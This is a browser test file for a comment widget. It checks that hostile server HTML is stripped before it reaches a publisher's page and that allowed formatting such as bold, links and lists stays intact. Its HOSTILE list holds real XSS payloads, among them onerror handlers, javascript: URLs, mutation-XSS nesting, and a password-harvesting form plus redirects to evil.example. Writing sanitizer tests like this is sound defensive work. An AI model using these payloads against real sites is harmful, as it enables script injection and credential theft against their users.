"""Server HTML enters a publisher's page through one door, which lets in only harmless nodes."""

from collections.abc import Callable

import pytest
from playwright.sync_api import Page

from tests.widget.conftest import Server, comment

pytestmark = pytest.mark.requires_browser

HOSTILE = [
    "<img src=x onerror=window.hacked=1>",
    "<script>window.hacked=1</script>",
    "<svg><script>window.hacked=1</script></svg>",
    '<p onclick="window.hacked=1" style="position:fixed" class="x" id="y">click</p>',
    '<a href="javascript:window.hacked=1">go</a>',
    '<a href=" java\tscript:window.hacked=1">go</a>',
    '<a href="data:text/html,<script>window.hacked=1</script>">go</a>',
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1></style></table>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'></noscript>",
    "<form action='https://evil.example'><input name=password><button>Send</button></form>",
    "<colloquy-thread url='https://evil.example'></colloquy-thread>",
    "<template><img src=x onerror=window.hacked=1></template>",
    "<style>*{display:none}</style>",
    "<base href='https://evil.example'><meta http-equiv=refresh content='0;url=//evil.example'>",
]
INVENTORY = """bodies => bodies.flatMap(body => [...body.querySelectorAll('*')].map(
    node => [node.localName, ...[...node.attributes].map(each => each.name)].join(' ')))"""


def test_nothing_in_a_hostile_answer_runs_or_stays(
    visit: Callable[..., Page], server: Server
) -> None:
    server.comments = [comment(n, body_html=html) for n, html in enumerate(HOSTILE)]

    page = visit(policy="")  # nothing but the widget stands in the way
    page.locator("article").nth(len(HOSTILE) - 1).wait_for()

    assert page.evaluate("window.hacked") is None
    assert set(page.locator("article > .body").evaluate_all(INVENTORY)) <= {"p", "a"}


def test_what_readers_may_write_is_shown_as_it_was_meant(
    visit: Callable[..., Page], server: Server
) -> None:
    html = (
        "<p>A <strong>bold</strong> <em>claim</em>, <s>not</s> <code>proven</code><br>"
        '<a href="https://example.org/">here</a></p>'
        "<blockquote><p>Quote</p></blockquote><ul><li>one</li></ul><ol><li>two</li></ol>"
        "<pre><code>three</code></pre>"
    )
    server.comments = [comment(1, body_html=html)]

    page = visit()
    body = page.locator("article > .body")
    body.wait_for()

    link = '<a href="https://example.org/" target="_blank" rel="ugc nofollow noopener noreferrer">'
    assert body.inner_html() == html.replace('<a href="https://example.org/">', link)
